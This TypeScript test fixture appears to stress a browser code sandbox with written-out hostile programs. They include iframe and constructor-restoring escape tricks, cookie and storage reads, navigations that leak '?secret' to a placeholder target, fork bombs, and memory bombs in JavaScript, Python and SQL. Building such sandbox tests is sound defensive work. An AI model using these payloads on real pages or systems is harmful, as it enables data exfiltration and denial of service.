/**
 * The attacks of a hostile program, one by one. Each attempt prints `name: refused` or `name: ALLOWED`, so that a test
 * can report which one succeeded. `SITE`, `ELSEWHERE` and `STUN` stand for addresses that the test's servers listen on.
 */

/** Code shared by both kinds of sandbox: makes an attempt and reports its result. */
const TELL = `
const told = [];
async function attempt(name, tried) {
  try {
    const limit = new Promise((resolve) => setTimeout(resolve, 800, undefined));
    const got = await Promise.race([Promise.resolve().then(tried), limit]);
    console.log(name + (got === undefined || got === null || got === false ? ': refused' : ': ALLOWED ' + String(got)));
  } catch (error) {
    console.log(name + ': refused (' + error.name + ')');
  }
}
const opened = (target, good) => new Promise((resolve, reject) => {
  target['on' + good] = () => resolve(good);
  target.onerror = () => reject(new Error('error event'));
});
`;

/** Attempts to reach the network, from any kind of sandbox. */
const NETWORK = `
for (const address of ['SITE', 'ELSEWHERE']) {
  await attempt('fetch ' + address, async () => (await fetch(address + 'fetch', { mode: 'no-cors' })).type);
  await attempt('XMLHttpRequest ' + address, () => {
    const request = new XMLHttpRequest();
    request.open('GET', address + 'xhr');
    const end = opened(request, 'load');
    request.send();
    return end;
  });
  await attempt('WebSocket ' + address, () => opened(new WebSocket(address.replace('http', 'ws') + 'socket'), 'open'));
  await attempt('EventSource ' + address, () => opened(new EventSource(address + 'events'), 'open'));
  await attempt('import() ' + address, async () => typeof (await eval('import("' + address + 'module.js")')));
}
for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'RTCIceTransport', 'WebTransport', 'WebSocketStream'])
  await attempt(name, () => { if (!(name in globalThis)) throw new ReferenceError(); return 'there'; });
await attempt('a connection by WebRTC', async () => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
  return 'offered';
});
await attempt('indexedDB', () => opened(indexedDB.open('x'), 'success'));
await attempt('caches', () => caches.open('x'));
`;

/** For the `js` runtime, in a worker. */
export const WORKER_ATTACK = `${TELL}${NETWORK}
await attempt('importScripts', () => { importScripts('SITEscript.js'); return 'loaded'; });
await attempt('Worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
await attempt('SharedWorker', () => new SharedWorker(URL.createObjectURL(new Blob(['1']))));
await attempt('localStorage', () => localStorage.getItem('secret'));
await attempt('document', () => document.cookie);
await attempt('parent', () => parent.document);
await attempt('top', () => top.document);
await attempt('location', () => { location.href = 'ELSEWHERElocation'; });
await attempt('open', () => open('ELSEWHEREopen'));
await attempt('serviceWorker', () => navigator.serviceWorker.register('SITEworker.js'));
await attempt('cookieStore', () => cookieStore.getAll());
await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
  const channel = new BroadcastChannel('site');
  channel.onmessage = ({ data }) => resolve(data);
  channel.postMessage('hello');
  setTimeout(() => reject(new Error('no answer')), 300);
}));
console.log('all attempted');
`;

/**
 * Attempts to create frames inside the frame. Each reports if its script runs, because it would have the removed
 * constructors again.
 */
const CHILDREN = `
const SCRIPT = '<script>parent.postMessage("child ran " + typeof RTCPeerConnection, "*")</' + 'script>';
const ran = (make, root = document.body) => new Promise((resolve, reject) => {
  addEventListener('message', ({ data }) => resolve(data), { once: true });
  setTimeout(() => reject(new Error('no message')), 500);
  make(root);
});
const child = (fields, root = document.body) => root.append(Object.assign(document.createElement('iframe'), fields));
const JS = 'javascript:parent.postMessage("child ran", "*")';
await attempt('constructors of a child', () => { const made = document.createElement('iframe'); document.body.append(made); return typeof made.contentWindow.RTCPeerConnection; });
await attempt('constructors of a child, later', async () => { await 0; await new Promise((go) => setTimeout(go, 100)); return typeof frames[0].RTCPeerConnection; });
await attempt('child by srcdoc', () => ran(() => child({ srcdoc: SCRIPT })));
await attempt('child by javascript:', () => ran(() => child({ src: JS })));
await attempt('child by data:', () => ran(() => child({ src: 'data:text/html,' + SCRIPT })));
await attempt('child by blob:', () => ran(() => child({ src: URL.createObjectURL(new Blob([SCRIPT], { type: 'text/html' })) })));
await attempt('child by innerHTML', () => ran(() => document.body.insertAdjacentHTML('beforeend', '<div><iframe srcdoc="' + SCRIPT.replaceAll('"', '&quot;') + '"></iframe></div>')));
await attempt('child with a sandbox', () => ran(() => { const made = document.createElement('iframe'); made.sandbox = 'allow-scripts'; made.srcdoc = SCRIPT; document.body.append(made); }));
await attempt('child whose sandbox goes', () => ran(() => { const made = document.createElement('iframe'); document.body.append(made); setTimeout(() => { made.removeAttribute('sandbox'); made.srcdoc = SCRIPT; made.setAttribute('sandbox', ''); }, 50); }));
await attempt('child in a shadow tree', () => ran(() => { const host = document.createElement('div'); child({ srcdoc: SCRIPT }, host.attachShadow({ mode: 'closed' })); document.body.append(host); }));
await attempt('child in a copied shadow tree', () => ran(() => { const host = document.createElement('div'); child({ srcdoc: SCRIPT }, host.attachShadow({ mode: 'closed', clonable: true })); document.body.append(host.cloneNode(true)); }));
await attempt('child in an open shadow tree of the parser', () => ran(() => { const host = document.createElement('div'); host.setHTMLUnsafe('<p><template shadowrootmode="open"><iframe srcdoc="' + SCRIPT.replaceAll('"', '&quot;') + '"></iframe></template></p>'); document.body.append(host); }));
await attempt('child deep down', () => ran(() => { const top = document.createElement('div'); let at = top; for (let i = 0; i < 3000; i++) at = at.appendChild(document.createElement('i')); child({ srcdoc: SCRIPT }, at); document.body.append(top); setTimeout(() => top.remove(), 100); }));
await attempt('child in a frameset', () => ran(() => { const set = document.createElement('frameset'); const made = document.createElement('frame'); made.src = JS; set.append(made); document.body.append(set); }));
await attempt('child that answers', () => ran(() => { customElements.define('my-frame', class extends HTMLIFrameElement { connectedCallback() { if (this.getAttribute('sandbox') === '') { this.removeAttribute('sandbox'); this.srcdoc = SCRIPT; } } }, { extends: 'iframe' }); const made = document.createElement('div'); made.innerHTML = '<iframe is="my-frame"></iframe>'; document.body.append(made); }));
document.documentElement ?? document.append(document.createElement('html'));
document.body ?? document.documentElement.append(document.createElement('body'));
await attempt('child past replaced methods', () => ran(() => {
  const nothing = () => null;
  for (const name of ['remove', 'matches', 'setAttribute', 'querySelectorAll', 'closest']) Element.prototype[name] = nothing;
  Node.prototype.insertBefore = nothing;
  for (const [prototype, name] of [[MutationRecord.prototype, 'addedNodes'], [Node.prototype, 'nodeType'], [Node.prototype, 'parentNode'], [NodeList.prototype, 'length']]) Object.defineProperty(prototype, name, { get: nothing });
  Function.prototype.call = Reflect.apply = MutationObserver.prototype.takeRecords = MutationObserver.prototype.disconnect = nothing;
  child({ srcdoc: SCRIPT });
}));
console.log('all attempted');
`;

/** For the `html` runtime. On a separate page, because it replaces things that other attacks need. */
export const CHILD_ATTACK = `<p>attack</p><iframe srcdoc="<script>parent.postMessage('from the start', '*')</script>"></iframe>
<script type="module">addEventListener('message', ({ data }) => { if (data === 'from the start') console.log('child from the start: ALLOWED'); });
${TELL}${CHILDREN}</script>`;

/** Ways for a frame to navigate away and leak data in the address. */
export const DEPARTURES: { name: string; code: string }[] = [
  { name: 'location.href', code: `<script>location.href = 'TARGET?secret';</script>` },
  { name: 'location.replace', code: `<script>location.replace('TARGET?secret');</script>` },
  { name: 'meta refresh', code: `<meta http-equiv="refresh" content="0;url=TARGET?secret"><p>x</p>` },
  {
    name: 'a link that a script clicks',
    code: `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; HTMLElement.prototype.click.call(a);</script>`,
  },
  {
    name: 'a link with a ping',
    code: `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; a.ping = 'TARGET?ping'; HTMLElement.prototype.click.call(a);</script>`,
  },
  {
    name: 'a form',
    code: `<form action="TARGET"><input name="secret" value="1"></form><script>HTMLFormElement.prototype.submit.call(document.forms[0]);</script>`,
  },
  {
    name: 'a form that a button sends past the page’s own handler',
    code: `<form action="TARGET"><input name="secret" value="1"><button>x</button></form><script>addEventListener('click', (event) => event.stopImmediatePropagation(), true); document.querySelector('button').click();</script>`,
  },
  {
    name: 'a document of its own by blob:',
    code: `<script>location.href = URL.createObjectURL(new Blob(['<script>RTC; location.href = "TARGET?secret"</' + 'script>'], { type: 'text/html' }));</script>`,
  },
  {
    name: 'a document of its own by data:',
    code: `<script>location.href = 'data:text/html,' + encodeURIComponent('<script>RTC; location.href = "TARGET?secret"</' + 'script>');</script>`,
  },
  {
    name: 'a document written anew',
    code: `<script>addEventListener('load', () => { document.open(); document.write('<iframe srcdoc="<script>RTC</' + 'script>"></iframe><script>RTC; location.href = "TARGET?secret"</' + 'script>'); document.close(); });</script>`,
  },
];

/** A single expression that sends a request to the server of `STUN`. */
export const RTC = `(async (c) => { c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })(new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }))`;

/** For the `html` runtime, in the frame itself. Finally, it tries to navigate its own frame to another site. */
export const FRAME_ATTACK = `<p>attack</p><script type="module">${TELL}${NETWORK}
await attempt('cookie', () => document.cookie || 'readable');
await attempt('set cookie', () => { document.cookie = 'a=b'; return 'set'; });
await attempt('localStorage', () => localStorage.getItem('secret') ?? 'readable');
await attempt('sessionStorage', () => sessionStorage.length + ' readable');
await attempt('parent.document', () => parent.document.title);
await attempt('top.document', () => top.document.cookie);
await attempt('top.localStorage', () => top.localStorage.secret);
await attempt('top.location.href', () => top.location.href);
await attempt('frameElement', () => window.frameElement);
await attempt('top.location =', () => { top.location = 'ELSEWHEREtop'; return 'navigated'; });
await attempt('top.location.replace', () => { top.location.replace('ELSEWHEREtop'); return 'navigated'; });
await attempt('link to _top', () => { const a = document.createElement('a'); a.href = 'ELSEWHEREtoplink'; a.target = '_top'; document.body.append(a); HTMLElement.prototype.click.call(a); });
await attempt('window.open', () => window.open('ELSEWHEREopen'));
await attempt('serviceWorker', () => navigator.serviceWorker.register('SITEworker.js'));
await attempt('Worker', () => opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message'));
await attempt('SharedWorker', () => { const w = new SharedWorker(URL.createObjectURL(new Blob(['']))); return new Promise((ok, no) => { w.onerror = () => no(new Error('error event')); }); });
await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
  const channel = new BroadcastChannel('site');
  channel.onmessage = ({ data }) => resolve(data);
  channel.postMessage('hello');
  setTimeout(() => reject(new Error('no answer')), 300);
}));
for (const address of ['SITE', 'ELSEWHERE']) {
  await attempt('sendBeacon ' + address, () => { navigator.sendBeacon(address + 'beacon', 'x'); });
  await attempt('img ' + address, () => { const image = new Image(); const end = opened(image, 'load'); image.src = address + 'image.png'; return end; });
  await attempt('script ' + address, () => { const made = document.createElement('script'); const end = opened(made, 'load'); made.src = address + 'script.js'; document.head.append(made); return end; });
  await attempt('style ' + address, () => { const made = document.createElement('link'); made.rel = 'stylesheet'; const end = opened(made, 'load'); made.href = address + 'style.css'; document.head.append(made); return end; });
  await attempt('@import ' + address, () => { const made = document.createElement('style'); made.textContent = '@import "' + address + 'import.css"; p { background: url(' + address + 'background.png) }'; document.head.append(made); });
  await attempt('preload ' + address, () => { const made = document.createElement('link'); made.rel = 'preload'; made.as = 'image'; const end = opened(made, 'load'); made.href = address + 'preload.png'; document.head.append(made); return end; });
  await attempt('iframe ' + address, () => { const made = document.createElement('iframe'); made.src = address + 'frame'; document.body.append(made); });
  await attempt('object ' + address, () => { const made = document.createElement('object'); made.data = address + 'object'; document.body.append(made); });
  await attempt('form ' + address, () => { const made = document.createElement('form'); made.action = address + 'form'; document.body.append(made); HTMLFormElement.prototype.submit.call(made); });
  await attempt('ping ' + address, () => { const made = document.createElement('a'); made.href = '#x'; made.ping = address + 'ping'; document.body.append(made); made.click(); });
  await attempt('base ' + address, () => { const made = document.createElement('base'); made.href = address; document.head.prepend(made); return document.baseURI.startsWith(address + 'base') ? 'changed' : undefined; });
}
console.log('all attempted');
setTimeout(() => { location.href = 'ELSEWHEREself'; }, 200);
</script>`;

/** Programs that try to keep the page or the machine busy. Each must be stopped, with this message from the session. */
export const BOMBS: { name: string; runtime: 'js' | 'html'; code: string; ends: RegExp }[] = [
  { name: 'an endless loop in a worker', runtime: 'js', code: 'for (;;);', ends: /timeout/ },
  {
    name: 'a flood of logs in a worker',
    runtime: 'js',
    code: 'for (;;) console.log("flood");',
    ends: /flood/,
  },
  {
    name: 'a flood of forged messages in a worker',
    runtime: 'js',
    code: 'for (;;) self.postMessage({ type: "result", run: 7, result: {} });',
    ends: /timeout|flood/,
  },
  {
    name: 'a fork bomb of workers in a worker',
    runtime: 'js',
    code: 'const url = URL.createObjectURL(new Blob(["for (;;);"])); for (;;) new Worker(url);',
    ends: /Worker is not defined/,
  },
  {
    name: 'an endless loop in a frame',
    runtime: 'html',
    code: '<script>for (;;);</script>',
    ends: /the loop did not finish within 2 s/,
  },
  {
    name: 'an endless loop past the guard in a frame',
    runtime: 'html',
    code: '<script>new Function("for (;;);")();</script>',
    ends: /timeout|unresponsive/,
  },
  {
    name: 'an endless loop in a frame after its run',
    runtime: 'html',
    code: '<p>calm</p><script>setTimeout(() => new Function("for (;;);")(), 500);</script>',
    ends: /stopped responding/,
  },
  {
    name: 'a flood of logs in a frame',
    runtime: 'html',
    code: '<script>setInterval(() => { for (let i = 0; i < 100; i++) console.log("flood"); }, 0);</script>',
    ends: /flood|printed more than/,
  },
  {
    name: 'a flood of messages to the page past the port',
    runtime: 'html',
    code: '<script>setInterval(() => { for (let i = 0; i < 100; i++) { top.postMessage("x".repeat(1e4), "*"); parent.postMessage("x", "*"); } }, 0);</script>',
    ends: /flood|printed more than/,
  },
  {
    name: 'a frame that fills its document',
    runtime: 'html',
    code: '<script>for (;;) document.body.append(document.createElement("p"));</script>',
    ends: /did not finish within 2 s|timeout|unresponsive/,
  },
  {
    name: 'a fork bomb of workers in a frame',
    runtime: 'html',
    code: '<script>const url = URL.createObjectURL(new Blob(["for (;;);"])); for (let i = 0; i < 200; i++) new Worker(url);</script>',
    ends: /Refused|SecurityError|ended without/,
  },
  {
    name: 'a frame that makes frames',
    runtime: 'html',
    code: '<script>for (;;) document.body.append(document.createElement("iframe"));</script>',
    ends: /did not finish within 2 s|timeout|unresponsive/,
  },
];

/** The message about a process that crashed or no longer answers. */
export const UNRESPONSIVE = /used too much memory or stopped responding|^unresponsive$/m;

/** Whether the process crashes before the time limit depends on the machine. */
const STOPPED = new RegExp(`${UNRESPONSIVE.source}|^timeout$`, 'm');

const GUARDED = new RegExp(`${STOPPED.source}|did not finish within 2 s`, 'm');

const INTERVAL = 'setInterval(() => { for (let i = 0; i < 20; i++) all.push(new Array(1e6).fill(1)); }, 10)';

/** Programs that use memory without end, each with the message that must appear. */
export const MEMORY_BOMBS = (
  [
    ['arrays in a worker', 'js', 'const all = []; for (;;) all.push(new Array(1e6).fill(1));', STOPPED],
    ['objects in a worker', 'js', 'const all = []; for (let i = 0; ; i++) all.push({ i });', STOPPED],
    ['a string that doubles in a worker', 'js', "let s = 'ab'; for (;;) s += s;", /Invalid string length/],
    [
      'huge buffers in a worker',
      'js',
      'const all = []; for (;;) all.push(new ArrayBuffer(8e9));',
      /allocation failed/,
    ],
    [
      'arrays in a frame',
      'html',
      '<script>const all = []; for (;;) all.push(new Array(1e6).fill(1));</script>',
      GUARDED,
    ],
    [
      'a string that doubles in a frame',
      'html',
      "<script>let s = 'ab'; for (;;) s += s;</script>",
      /Invalid string length/,
    ],
    [
      'huge buffers in a frame',
      'html',
      '<script>const all = []; for (;;) all.push(new ArrayBuffer(8e9));</script>',
      /allocation failed/,
    ],
    [
      'arrays in a frame after its run',
      'html',
      `<p>calm</p><script>const all = []; ${INTERVAL};</script>`,
      UNRESPONSIVE,
    ],
    [
      'arrays in a React component after its run',
      'react',
      `import { useEffect } from 'react'; const all = []; export default function App() { useEffect(() => { ${INTERVAL}; }, []); return <p>calm</p>; }`,
      UNRESPONSIVE,
    ],
    [
      'lists in Python',
      'python',
      'a = []\nwhile True:\n    a.append([0] * 10**6)',
      new RegExp(`^MemoryError|${STOPPED.source}`, 'm'),
    ],
    [
      'one text in SQL',
      'sql',
      "select length(string_agg(repeat('x', 1000000), '')) from generate_series(1, 2000);",
      /out of memory/,
    ],
    [
      'a table in SQL',
      'sql',
      'create table t as select repeat(md5(g::text), 60) as x from generate_series(1, 100000000) g;',
      STOPPED,
    ],
  ] as const
).map(([name, runtime, code, ends]) => ({ name, runtime, code, ends }));
